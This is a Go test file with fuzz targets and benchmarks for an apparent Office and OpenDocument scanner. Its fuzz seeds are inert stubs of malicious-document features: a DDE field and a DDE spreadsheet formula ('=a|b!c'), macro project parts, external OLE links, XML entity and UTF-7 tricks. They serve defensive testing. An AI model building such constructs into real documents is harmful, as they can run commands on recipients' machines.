func FuzzRead(f *testing.F) {
	f.Add(word(f, field(instr("DDE cmd")), "word/vbaProject.bin", "x", "xl/externalLinks/externalLink1.bin", "\xe8\x02\x02\x01\x00"))
	f.Add(openDoc(f, `<text:a xlink:href="http://a.test/"/>`, "Object 1", cfb))
	f.Add([]byte(`<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:binData>QWN0aXZlTWltZQ==</w:binData></w:wordDocument>`))
	f.Add([]byte(utf16LE(`<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=a|b!c"/></Workbook>`)))
	f.Fuzz(func(_ *testing.T, content []byte) {
		budget := container.NewBudget(context.Background(), container.Limits{Members: 50, Octets: 1 << 20, Member: 1 << 20, Time: time.Second}, nil)
		file := &container.File{Content: content, Budget: budget, Passwords: []string{"a"}}
		if (Reader{}).Reads(file) {
			Reader{}.Read(file, func(container.Member) bool { return true })
		}
	})
}

// FuzzXML reads one part as it is, which the compression of ZIP hides from a fuzzer.
func FuzzXML(f *testing.F) {
	for _, s := range []string{
		fmt.Sprintf(wordXML, field(instr("QUOTE 68 &#68;"))), openText(`<a xlink:href="x:y"/>`), `<?xml encoding="utf-7"?><a>+AEE-`, `<!DOCTYPE a [<!ENTITY b "c">]><a/>`,
		fmt.Sprintf(relsXML, `<Relationship Type="x/oleObject" Target="../a" TargetMode="External"/>`), manifestXML + `<encryption-data checksum=""><key-derivation iteration-count="1"/>`,
	} {
		f.Add([]byte(s), "word/a.xml")
		f.Add([]byte(s), "meta-inf/manifest.xml")
	}
	f.Fuzz(func(_ *testing.T, content []byte, name string) {
		budget := container.NewBudget(context.Background(), container.Limits{Members: 50, Octets: 1 << 20, Member: 1 << 20, Time: time.Second}, nil)
		d := document{file: &container.File{Content: content, Budget: budget}, budget: budget, give: func(container.Member) bool { return true }, parts: map[string]bool{}, form: openXML}
		d.part(part{name: partName(name), shown: name, content: content})
		d.verdict()
	})
}

func BenchmarkDocx(b *testing.B) {
	body := strings.Repeat(`<w:p w:rsidR="00C13D2A"><w:pPr><w:rPr><w:lang w:val="en-US"/></w:rPr></w:pPr><w:r><w:t>Some text of a letter.</w:t></w:r></w:p>`, 1000)
	picture := make([]byte, 90<<10)
	for i, x := 0, uint32(1); i < len(picture); i++ { // what does not compress
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		picture[i] = byte(x)
	}
	bench(b, word(b, body, "word/media/image1.jpeg", string(picture)))
}

func BenchmarkXlsx(b *testing.B) {
	var rows strings.Builder
	for i := range 600000 {
		fmt.Fprintf(&rows, `<c r="A%d" s="%d"><v>%d</v></c><c r="B%d"><f>SUM(A%d:A9)</f></c>`, i, i%7, i*7919%100003, i, i)
	}
	bench(b, word(b, "", "xl/worksheets/sheet1.xml", fmt.Sprintf(sheetXML, rows.String())))
}

func bench(b *testing.B, content []byte) {
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		if v, _ := read("a", content); v.State != scan.Inspected {
			b.Fatal(v)
		}
	}
}
